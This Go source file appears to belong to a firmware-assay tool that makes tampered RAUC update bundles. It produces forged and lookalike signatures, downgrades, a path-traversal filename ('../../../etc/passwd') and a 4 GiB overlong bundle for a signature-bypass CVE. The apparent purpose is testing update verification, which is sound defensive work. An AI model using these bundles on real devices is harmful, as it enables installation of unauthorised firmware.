package rauc

import (
	"bytes"
	"crypto/x509"
	"fmt"
	"io"
	"slices"
	"strings"

	"assay/firmware/cms"
	"assay/firmware/format"
)

// The variants that carry another signature.

// content is what the bundle's signature covers.
func (t *tampering) content() *bytes.Reader {
	if t.b.message.Detached {
		return bytes.NewReader(t.raw[:t.b.payload])
	}
	return bytes.NewReader(t.b.message.Content)
}

// resign signs the unchanged content by somebody else.
func (t *tampering) resign(by cms.Identity, o cms.SignOptions) error {
	t.repaired("lengths in the signature", "signature size")
	sig, err := t.b.message.Resigned(t.content(), by, o)
	return t.finish(t.payload(), sig, err)
}

// signer is the certificate of the signer, and the rest of the message's chain.
func (t *tampering) signer() (*x509.Certificate, []*x509.Certificate, error) {
	c, err := t.b.message.SignerCertificate()
	if err != nil {
		return nil, nil, notApplicable("%v", err)
	}
	var rest []*x509.Certificate
	for _, o := range t.b.message.Certificates {
		if !o.Equal(c) {
			rest = append(rest, o)
		}
	}
	return c, rest, nil
}

func (t *tampering) stranger() (*cms.PKI, error) {
	c, _, err := t.signer()
	if err != nil {
		return nil, err
	}
	kind := cms.KeyKind(c)
	middle := c.NotBefore.Add(c.NotAfter.Sub(c.NotBefore) / 2)
	return cms.NewPKI(cms.PKIOptions{Kind: kind, Name: "Stranger", At: middle})
}

func (t *tampering) duplicateSignature() error {
	p, err := t.stranger()
	if err != nil {
		return err
	}
	der, err := t.b.message.Resigned(t.content(), p.Signer, cms.SignOptions{})
	if err != nil {
		return err
	}
	other, err := cms.Parse(der)
	if err != nil {
		return err
	}
	t.changed("a stranger's signature before the maker's, with its certificate")
	t.repaired("lengths in the signature", "signature size")
	sig, err := t.b.message.Before(other)
	return t.finish(t.payload(), sig, err)
}

func (t *tampering) wrongKey() error {
	p, err := t.stranger()
	if err != nil {
		return err
	}
	t.changed("signed under a fresh authority, which the signature carries")
	return t.resign(p.Signer, cms.SignOptions{Certificates: p.Chain()[1:]})
}

func (t *tampering) wrongKeyForged() error {
	t.changed("signature made by a fresh key, under the name of the maker's certificate")
	t.repaired("lengths in the signature", "signature size")
	sig, err := t.b.message.Forged(t.content())
	return t.finish(t.payload(), sig, err)
}

func (t *tampering) selfMadeChain() error {
	c, rest, err := t.signer()
	if err != nil {
		return err
	}
	if len(t.means.Chain) > 0 && t.means.Chain[0].Equal(c) {
		rest = t.means.Chain[1:]
	}
	id, above, err := cms.Lookalike(append([]*x509.Certificate{c}, rest...))
	if err != nil {
		return err
	}
	t.changed("signed by a copy of the chain with fresh keys: names, serial numbers, validity and purposes are the maker's")
	return t.resign(id, cms.SignOptions{Certificates: above})
}

// issueBad needs the key of the authority that issued the maker's certificate.
func (t *tampering) issueBad(what string, change func(*x509.Certificate)) error {
	if t.means.Issuer == nil || len(t.means.Chain) == 0 {
		return notApplicable("needs the issuer's key and the maker's chain")
	}
	id, err := cms.IssueLike(t.means.Chain[0], t.means.Issuer, change)
	if err != nil {
		return err
	}
	t.changed("signed by a certificate of the maker's authority %s", what)
	return t.resign(id, cms.SignOptions{Certificates: t.means.Chain[1:]})
}

func (t *tampering) expired() error { return t.issueBad("that has expired", cms.Expire) }

func (t *tampering) wrongPurpose() error {
	return t.issueBad("that is for TLS servers", cms.ForServers)
}

// maker is the maker's own key.
func (t *tampering) maker() (cms.Identity, cms.SignOptions, error) {
	if t.means.Signer == nil || len(t.means.Chain) == 0 {
		return cms.Identity{}, cms.SignOptions{}, notApplicable("needs the maker's key and chain")
	}
	return cms.Identity{Key: t.means.Signer, Certificate: t.means.Chain[0]}, cms.SignOptions{Certificates: t.means.Chain[1:]}, nil
}

func (t *tampering) weak() error {
	id, o, err := t.maker()
	if err != nil {
		return err
	}
	if cms.KeyKind(id.Certificate) == "ed25519" {
		return notApplicable("ed25519 knows no other digest")
	}
	o.Digest = "sha1"
	t.changed("digest algorithm sha1")
	return t.resign(id, o)
}

// edited signs an edited manifest with the maker's key.
func (t *tampering) edited(edit func(string) string) error {
	id, o, err := t.maker()
	if err != nil {
		return err
	}
	if t.b.Kind() == Plain {
		return notApplicable("the manifest of a plain bundle lies in its squashfs; give the maker's other bundle")
	}
	text := edit(string(t.b.message.Content))
	if text == string(t.b.message.Content) {
		return notApplicable("the manifest has nothing to edit")
	}
	t.repaired("signature, by the maker's key")
	o.Signers = []cms.Identity{id}
	sig, err := cms.Sign(strings.NewReader(text), o)
	return t.finish(t.payload(), sig, err)
}

// setKey replaces the value of a key of [update].
func setKey(text, key, value string) string {
	lines := strings.Split(text, "\n")
	i := slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, key+"=") })
	if i < 0 {
		return text
	}
	lines[i] = key + "=" + value
	return strings.Join(lines, "\n")
}

// genuine takes the maker's own other bundle.
func (t *tampering) genuine(s *format.Source) (*Bundle, error) {
	other, err := parse(*s)
	if err != nil {
		return nil, err
	}
	if other.manifest == nil {
		return nil, notApplicable("the manifest of the other bundle cannot be read: %v", other.problem)
	}
	t.out.Bytes, err = s.Whole(maxTampered)
	return other, err
}

func (t *tampering) older() error {
	if t.b.manifest == nil || t.b.manifest.Version == "" {
		return notApplicable("the bundle tells no version")
	}
	t.out.Manifest.Device = &format.Device{Version: t.b.manifest.Version}
	if t.means.Older != nil {
		other, err := t.genuine(t.means.Older)
		if err != nil {
			return err
		}
		if c, err := compareVersions(other.manifest.Version, t.b.manifest.Version); err != nil || c >= 0 {
			return notApplicable("version %q of the other bundle is not older than %q", other.manifest.Version, t.b.manifest.Version)
		}
		t.changed("the maker's own bundle of version %s", other.manifest.Version)
		return nil
	}
	const lower = "0.0.1"
	if c, err := compareVersions(lower, t.b.manifest.Version); err != nil || c >= 0 {
		return notApplicable("version %q leaves no room below", t.b.manifest.Version)
	}
	t.changed("version %s", lower)
	return t.edited(func(s string) string { return setKey(s, "version", lower) })
}

func (t *tampering) otherProduct() error {
	if t.b.manifest == nil {
		return notApplicable("the manifest cannot be read")
	}
	t.out.Manifest.Device = &format.Device{Is: map[string]string{isCompatible: t.b.manifest.Compatible}}
	if t.means.Sister != nil {
		other, err := t.genuine(t.means.Sister)
		if err != nil {
			return err
		}
		if other.manifest.Compatible == t.b.manifest.Compatible {
			return notApplicable("the other bundle is for the same compatible %q", other.manifest.Compatible)
		}
		t.changed("the maker's own bundle for %s", other.manifest.Compatible)
		return nil
	}
	t.changed("compatible is another product's")
	return t.edited(func(s string) string { return setKey(s, "compatible", t.b.manifest.Compatible+" sister") })
}

func (t *tampering) pathEscape() error {
	if t.b.manifest == nil || len(t.b.manifest.Images) == 0 {
		return notApplicable("the manifest names no image")
	}
	t.changed("file name of the first image is ../../../etc/passwd")
	return t.edited(func(s string) string { return setKey(s, "filename", "../../../etc/passwd") })
}

// overlap is what a 32-bit count of the payload's bytes loses.
const overlap = 1 << 32

// Overlong is the bundle with 4 GiB of zeros between payload and signature, for
// CVE-2026-34155: RAUC before 1.15.2 counts the bytes of a plain payload in 32 bits, and
// verifies no more than those that were there before. The source is made as it is read;
// written to a file, that can be a sparse one.
func (b *Bundle) Overlong() (format.Source, error) {
	if b.Kind() != Plain || b.message == nil {
		return format.Source{}, fmt.Errorf("make overlong bundle: %w", notApplicable("it is not a signed plain bundle"))
	}
	payload := overlap + b.payload
	tail := appendSignature(nil, b.signature)
	return format.NewSource(&overlong{b: b, payload: payload, tail: tail}, payload+int64(len(tail))), nil
}

type overlong struct {
	b       *Bundle
	payload int64
	tail    []byte
}

// ReadAt serves the genuine payload, zeros, and the signature.
func (o *overlong) ReadAt(p []byte, at int64) (int, error) {
	clear(p)
	if at < o.b.payload {
		n := min(int64(len(p)), o.b.payload-at)
		if got, err := io.ReadFull(o.b.source.Section(at, n), p[:n]); err != nil {
			return got, err
		}
	}
	end := o.payload + int64(len(o.tail))
	if at >= end {
		return 0, io.EOF
	}
	if from := max(at, o.payload); from < at+int64(len(p)) {
		copy(p[from-at:], o.tail[from-o.payload:])
	}
	if at+int64(len(p)) > end {
		return int(end - at), io.EOF
	}
	return len(p), nil
}
